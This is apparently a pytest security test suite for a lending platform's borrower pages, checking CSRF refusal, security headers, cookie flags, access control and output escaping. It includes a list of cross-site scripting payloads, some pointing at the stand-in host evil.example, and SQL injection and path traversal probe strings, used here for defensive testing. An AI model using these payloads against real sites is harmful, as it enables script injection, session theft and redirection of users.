"""What a hostile browser, shop or neighbour meets at the borrower's pages (T16)."""

import re
from collections.abc import Iterator

import pytest
from flask import Flask
from markupsafe import escape
from werkzeug.routing import Rule
from werkzeug.test import TestResponse

from hosted.checkout import COOKIE as CHECKOUT_COOKIE
from hosted.me import COOKIE as ME_COOKIE
from lending.credit_lines import securities
from lending.credit_lines.model import SecurityKind
from lending.foundation import ids
from lending.foundation.audit import SYSTEM
from lending.repayments import service as repayments
from lending.repayments.model import What
from scenarios.mall_installment import intake, servicing
from scenarios.mall_installment.intake import PlaceOrder
from scenarios.mall_installment.orders import Item
from scenarios.offline_credit import applying, stores
from tests.assisted_lending.sending import Sending
from tests.hosted.buyer import DOMAIN, MOBILE, PERSON, Buyer
from tests.hosted.house import House
from tests.loans.world import PUBLIC_URL, World, shop
from tests.offline_credit.shop import Shop
from tests.outside import OutsideWorld

SAFE = {"GET", "HEAD", "OPTIONS"}
ZHANG = "13800000001"
"""The mobile of the world's first borrower."""
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    "<a href=javascript:alert(1)>x</a>",
    "</title><script>alert(1)</script>",
    "</li></ul><form action=//evil.example><input name=code>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<style>*{background:url(//evil.example)}</style>",
    "<base href=//evil.example/>",
    "{{ 7 * 7 }}{% raw %}<b>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
)


def hosted_rules(app: Flask, *, changing: bool) -> Iterator[Rule]:
    """The routes of the borrower's pages that change something, or that only show."""
    for rule in app.url_map.iter_rules():
        if rule.endpoint.startswith("hosted.") and changing == bool(rule.methods - SAFE):
            yield rule


def addresses(app: Flask, *, changing: bool, **values: str) -> list[str]:
    """An address for each route; for each form of a journey one of its own.

    A route with a part that has no value here fails: give it one.
    """
    adapter = app.url_map.bind("")
    found = []
    for rule in hosted_rules(app, changing=changing):
        journey = rule.endpoint.removeprefix("hosted.").partition("_")[0]
        token = values.get(f"{journey}_token", values["token"])
        acts = "action" in rule.arguments
        for action in app.view_functions[rule.endpoint].__self__._actions if acts else [""]:
            known = {**values, "token": token, "action": action}
            given = {name: known[name] for name in rule.arguments}
            method = next(iter(rule.methods - SAFE if changing else {"GET"}))
            found.append(adapter.build(rule.endpoint, given, method=method))
    return found


@pytest.fixture
def zhang(buyer: Buyer, world: World) -> Buyer:
    """A borrower with a loan, signed in, who has an open order besides."""
    _, loan_id = world.paid()
    made = repayments.pay(world.context, loan_id, What.NEXT, amount_fen=next_fen(world, loan_id))
    buyer.loan_id, buyer.repayment_id = loan_id, made.id
    buyer.sign_in(ZHANG)
    buyer.open(world.order("A-2"))
    buyer.tokens = in_a_store(world) | from_a_platform(world, buyer) | {"ticket_id": asked(buyer)}
    return buyer


def asked(buyer: Buyer) -> str:
    """A ticket that the borrower opened."""
    answer = buyer.post("/me/tickets", csrf=buyer.csrf("/me"), kind="query", text="何时到账")
    assert answer.status_code == 303, answer.text
    return str(answer.location).rpartition("/")[2]


def from_a_platform(world: World, buyer: Buyer) -> dict[str, str]:
    """The page that the borrower came to from a platform."""
    sending = Sending(world)
    sent = sending.submit(sending.new_lead())["handover_url"].removeprefix(PUBLIC_URL)
    page = buyer.get(sent).headers["location"]
    return {"handover_token": sent.rpartition("/")[2], "lead_token": page.rpartition("/")[2]}


def in_a_store(world: World) -> dict[str, str]:
    """What the borrower has open in a store: a visit, payments, and a guarantor's link."""
    shop = Shop(world)
    payment = shop.take(300_000, shop.code())
    shown = shop.take(200_000, payment_no="P-2")
    with world.database.unit_of_work() as tx:
        code = stores.code(tx, world.keys, world.partner_id, shop.gym, PUBLIC_URL)["url"]
        scanned = code.removeprefix(f"{PUBLIC_URL}/s/")
        visit = applying.arrive(tx, world.keys, scanned, staff_no=None, device={})
        securities.offer(
            tx,
            world.keys,
            shop.line_id,
            SecurityKind.GUARANTOR,
            description="哥哥",
            actor=SYSTEM,
        )
        (offered,) = securities.of_line(tx, shop.line_id)
        guarantee = securities.token_of(world.keys, offered)
    return {
        "code": scanned,
        "store_token": visit.token,
        "quick_token": shop.line_id,
        "payment_token": payment.id,
        "guarantee_token": str(guarantee),
        "pay_token": shop.view(shown.id)["pay_url"].rpartition("/")[2],
    }


def next_fen(world: World, loan_id: str) -> int:
    with world.database.unit_of_work() as tx:
        return repayments.quote(tx, loan_id, What.NEXT).amount_fen


def places(who: Buyer) -> dict[str, str]:
    """What stands in the addresses of the borrower's own things."""
    return {
        "token": who.link.rpartition("/")[2],
        "loan_id": who.loan_id,
        "repayment_id": who.repayment_id,
        "filename": "hosted.css",
        **who.tokens,
    }


class TestSendingAFormFromElsewhere:
    @pytest.mark.parametrize("forged", ["none", "wrong", "of another browser", "of the other page"])
    def test_every_form_without_its_sessions_token_is_refused_and_does_nothing(
        self, forged: str, zhang: Buyer, app: Flask, world: World, outside: OutsideWorld
    ):
        stranger = Buyer(app, world, outside)
        stranger.link = zhang.link
        of_page = {True: zhang.csrf("/me"), False: zhang.csrf(zhang.link)}
        paths = addresses(app, changing=True, **places(zhang))
        assert len(paths) >= 20
        before = everything(world)
        sent = len(outside.app.test_client().get("/sms/outbox").json)
        for path in paths:
            is_me = path.startswith(("/me", "/pay"))
            token = {
                "none": "",
                "wrong": ids.token(),
                "of another browser": stranger.csrf("/me" if is_me else zhang.link),
                "of the other page": of_page[not is_me],
            }[forged]
            form = {"csrf": token} if token else {}
            answer = zhang.post(path, mobile=ZHANG, what="next", amount_fen="1", **form)
            assert answer.status_code == 400, path
            assert "页面已过期" in answer.text, path
        assert everything(world) == before
        assert len(outside.app.test_client().get("/sms/outbox").json) == sent

    def test_a_form_without_any_session_is_refused(self, zhang: Buyer, app: Flask):
        zhang.client.delete_cookie(ME_COOKIE, domain=DOMAIN)
        zhang.client.delete_cookie(CHECKOUT_COOKIE, domain=DOMAIN)
        for path in addresses(app, changing=True, **places(zhang)):
            of_own = ("/me/payments/", "/me/quick/", "/me/tickets")
            wanted = 404 if path.startswith(of_own) else 400
            assert zhang.post(path, csrf="").status_code == wanted, path

    def test_no_form_is_carried_out_by_following_a_link(
        self, zhang: Buyer, app: Flask, world: World
    ):
        pages = addresses(app, changing=False, **places(zhang))
        before = everything(world)
        for path in addresses(app, changing=True, **places(zhang)):
            assert zhang.get(path).status_code == (200 if path in pages else 405), path
        assert everything(world) == before


def everything(world: World) -> list[object]:
    """What a form could have changed: this browser's sessions, journeys' choices, money, codes."""
    return [
        world.rows(sql)
        for sql in (
            "SELECT state::text FROM hosted_session WHERE state <> '{}' ORDER BY id_sha256",
            "SELECT id FROM repayment ORDER BY id",
            "SELECT id FROM sms_code ORDER BY id",
            "SELECT id FROM consent ORDER BY id",
            "SELECT id, state FROM mall_order_now ORDER BY id",
            "SELECT id FROM ticket ORDER BY id",
        )
    ]


class TestHardeningThePages:
    def require_hardened(self, answer: TestResponse, where: str) -> None:
        policy = dict(
            part.strip().partition(" ")[::2]
            for part in answer.headers["Content-Security-Policy"].split(";")
        )
        assert policy["frame-ancestors"] == "'none'", where
        assert policy["default-src"] == policy["script-src"] == policy["style-src"] == "'self'"
        assert policy["object-src"] == policy["base-uri"] == "'none'"
        assert policy["form-action"] == "'self'"
        assert "unsafe" not in answer.headers["Content-Security-Policy"]
        assert answer.headers["X-Content-Type-Options"] == "nosniff", where
        assert answer.headers["Referrer-Policy"] == "no-referrer", where

    def test_every_route_answers_with_the_headers_found_or_not(self, zhang: Buyer, app: Flask):
        unknown = dict.fromkeys(places(zhang), "nothing")
        for values in (places(zhang), unknown):
            for path in addresses(app, changing=False, **values):
                answer = zhang.get(path)
                self.require_hardened(answer, path)
                assert answer.status_code < 500
                if "/static/" not in path:
                    assert answer.headers["Cache-Control"] == "no-store", path
        for path in addresses(app, changing=True, **places(zhang)):
            self.require_hardened(zhang.post(path), path)

    def test_every_page_of_the_checkout_keeps_to_its_own_policy(self, buyer: Buyer, world: World):
        order_id = world.order()
        for step in ("offers", "mobile", "identity", "verify", "card", "choose", "cost"):
            buyer.walk_to(step, order_id) if step == "offers" else buyer.forward(step)
            self.require_clean(buyer.page())
        buyer.read_costs()
        self.require_clean(buyer.page())

    def require_clean(self, answer: TestResponse) -> None:
        """Nothing that the policy would have the browser drop."""
        self.require_hardened(answer, answer.request.path)
        assert not re.search(r"<script(?![^>]*\bsrc=)|<style|\son\w+=|\sstyle=", answer.text)
        for source in re.findall(r'(?:src|rel="stylesheet" href)="([^"]+)"', answer.text):
            assert source.startswith("/"), source
            assert not source.startswith("//"), source

    @pytest.mark.parametrize("cookie", [ME_COOKIE, CHECKOUT_COOKIE])
    def test_the_session_is_out_of_reach_of_scripts_and_other_sites(
        self, cookie: str, zhang: Buyer
    ):
        answers = [zhang.get("/me"), zhang.page()]
        set_ = [line for each in answers for line in each.headers.getlist("Set-Cookie")]
        (mine,) = [line for line in set_ if line.startswith(f"{cookie}=")]
        for attribute in ("HttpOnly", "Secure", "SameSite=Lax", "Path=/"):
            assert attribute in mine


class TestShowingWhatAShopSent:
    @pytest.fixture
    def world(self, house: House) -> World:
        return house.world

    @pytest.fixture
    def buyer(self, house: House) -> Buyer:
        return Buyer(house.app, house.world, house.outside)

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_goods_and_the_shops_own_name_are_text_and_nothing_else(
        self, payload: str, buyer: Buyer, world: World
    ):
        world.partner_id = shop(world, f"app_{ids.digits(6)}", payload, ("6230580000000010038",))
        goods = Item("sku-1", payload, 1, 599_900, "electronics")
        page = buyer.open(world.order(ids.digits(12), items=(goods,))).text
        assert page.count(escape(payload)) == 2
        assert payload not in page

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_the_way_back_to_the_shop_stays_one_address(
        self, payload: str, buyer: Buyer, world: World
    ):
        back = f"https://shop.example/{payload}"
        goods = Item("sku-1", "手机", 1, 599_900, "electronics")
        command = PlaceOrder(ids.digits(12), 599_900, (goods,), return_url=back)
        with world.database.unit_of_work() as tx:
            placed = intake.place_order(tx, world.keys, world.partner_id, command, PUBLIC_URL)
            servicing.cancel(tx, world.keys, world.partner_id, placed["id"], PUBLIC_URL)
        page = buyer.open(placed["id"]).text
        assert f'href="{escape(back)}"' in page
        assert payload not in page

    @pytest.mark.parametrize("payload", PAYLOADS)
    def test_what_the_borrower_typed_comes_back_as_text(
        self, payload: str, buyer: Buyer, world: World
    ):
        buyer.walk_to("mobile", world.order(ids.digits(12)))
        page = buyer.act("send-code", mobile=payload).text
        assert payload not in page
        assert "手机号码不正确" in page

    def test_a_name_with_a_wrong_number_comes_back_as_text(self, buyer: Buyer, world: World):
        buyer.walk_to("identity", world.order(ids.digits(12)))
        for payload in PAYLOADS:
            page = buyer.act("identify", **{**PERSON, "name": payload, "identity_no": "1"}).text
            assert f'value="{escape(payload)}"' in page, payload
            assert payload not in page


class TestAskingForWhatIsNotThere:
    @pytest.mark.parametrize("rest", ["", "/state", "/contract.pdf"])
    def test_an_unknown_link_is_not_found(self, rest: str, buyer: Buyer):
        for token in (ids.token(), "x", "..%2f", "' OR 1=1--", "x" * 5_000):
            answer = buyer.get(f"/checkout/{token}{rest}")
            assert answer.status_code == 404, token
            assert "Traceback" not in answer.text
        assert "订单已失效" in buyer.get(f"/checkout/{ids.token()}{rest}").text

    def test_a_form_to_an_unknown_link_is_not_found(self, buyer: Buyer):
        assert buyer.post(f"/checkout/{ids.token()}/start", csrf="x").status_code == 404

    def test_a_nul_anywhere_is_refused(self, zhang: Buyer, app: Flask):
        nul = dict.fromkeys(places(zhang), "a\0b")
        in_path = [path for path in addresses(app, changing=False, **nul) if "%00" in path]
        assert len(in_path) >= 8
        for path in (*in_path, "/me?x=%00", f"{zhang.link}?x=%00"):
            answer = zhang.get(path)
            assert answer.status_code == 400, path
            assert "填写的内容不正确" in answer.text
        for path in addresses(app, changing=True, **places(zhang)):
            page = "/me" if path.startswith(("/me", "/pay")) else zhang.link
            answer = zhang.post(path, csrf=zhang.csrf(page), code="a\0b")
            assert answer.status_code == 400, path


class TestLookingAtAnothersThings:
    @pytest.fixture
    def li(self, zhang: Buyer, app: Flask, world: World, outside: OutsideWorld) -> Buyer:
        """Another borrower, with a loan and a repayment of their own."""
        world.another_buyer(1)
        _, loan_id = world.paid("B-1")
        other = Buyer(app, world, outside)
        other.loan_id = loan_id
        other.repayment_id = repayments.pay(
            world.context, loan_id, What.NEXT, amount_fen=next_fen(world, loan_id)
        ).id
        other.sign_in("13800100001")
        other.link, other.tokens = zhang.link, zhang.tokens | {"ticket_id": asked(other)}
        return other

    def own_paths(self, app: Flask, who: dict[str, str]) -> list[str]:
        paths = addresses(app, changing=False, **who)
        return [path for path in paths if re.search("/me/(loans|repayments|tickets)/", path)]

    def test_they_look_as_if_they_were_missing(self, zhang: Buyer, li: Buyer, app: Flask):
        missing = {**places(li), "loan_id": ids.new("loan"), "repayment_id": ids.new("rep")}
        missing |= {"ticket_id": ids.new("tkt")}
        own, others, none = (
            self.own_paths(app, who) for who in (places(li), places(zhang), missing)
        )
        assert len(own) >= 5
        for mine, anothers, nobodys in zip(own, others, none, strict=True):
            assert li.get(mine).status_code == 200, mine
            seen, absent = li.get(anothers), li.get(nobodys)
            assert (seen.status_code, absent.status_code) == (404, 404), anothers
            assert seen.data == absent.data

    def test_they_cannot_be_paid_or_refunded(
        self, zhang: Buyer, li: Buyer, app: Flask, world: World
    ):
        before = world.count("SELECT count(*) FROM repayment")
        amount = next_fen(world, zhang.loan_id)
        csrf = li.csrf("/me")
        missing = ids.new("loan")
        for path in ("pay", "refund-credit"):
            tried = li.post(
                f"/me/loans/{zhang.loan_id}/{path}", csrf=csrf, what="next", amount_fen=str(amount)
            )
            absent = li.post(f"/me/loans/{missing}/{path}", csrf=csrf, what="next", amount_fen="1")
            assert (tried.status_code, tried.data) == (404, absent.data), path
        assert world.count("SELECT count(*) FROM repayment") == before

    def test_who_is_not_signed_in_sees_nothing(self, zhang: Buyer, app: Flask):
        paths = self.own_paths(app, places(zhang))
        zhang.client.delete_cookie(ME_COOKIE, domain=DOMAIN)
        for path in paths:
            answer = zhang.get(path)
            assert answer.status_code == 404, path
            assert "请先登录" in answer.text

    def test_after_signing_out_the_old_cookie_is_worth_nothing(self, zhang: Buyer):
        kept = zhang.cookie(ME_COOKIE)
        assert zhang.post("/me/sign-out", csrf=zhang.csrf("/me")).status_code == 303
        zhang.client.set_cookie(ME_COOKIE, kept, domain=DOMAIN)
        assert zhang.get(f"/me/loans/{zhang.loan_id}").status_code == 404


class TestRenewingTheSession:
    def test_at_the_checkout_when_the_mobile_and_when_the_person_is_proved(
        self, buyer: Buyer, world: World
    ):
        buyer.walk_to("mobile", world.order())
        known = [buyer.cookie(CHECKOUT_COOKIE)]
        buyer.prove_mobile()
        known.append(buyer.cookie(CHECKOUT_COOKIE))
        buyer.went("identify", "verify", **PERSON)
        assert buyer.cookie(CHECKOUT_COOKIE) not in known
        assert known[0] != known[1]
        for old in known:
            buyer.client.set_cookie(CHECKOUT_COOKIE, old, domain=DOMAIN)
            assert buyer.due() == "offers"

    def test_at_the_own_page_when_signing_in(self, buyer: Buyer):
        buyer.get("/me")
        before = buyer.cookie(ME_COOKIE)
        buyer.sign_in(MOBILE)
        assert buyer.cookie(ME_COOKIE) != before
        buyer.client.set_cookie(ME_COOKIE, before, domain=DOMAIN)
        assert "退出登录" not in buyer.get("/me").text
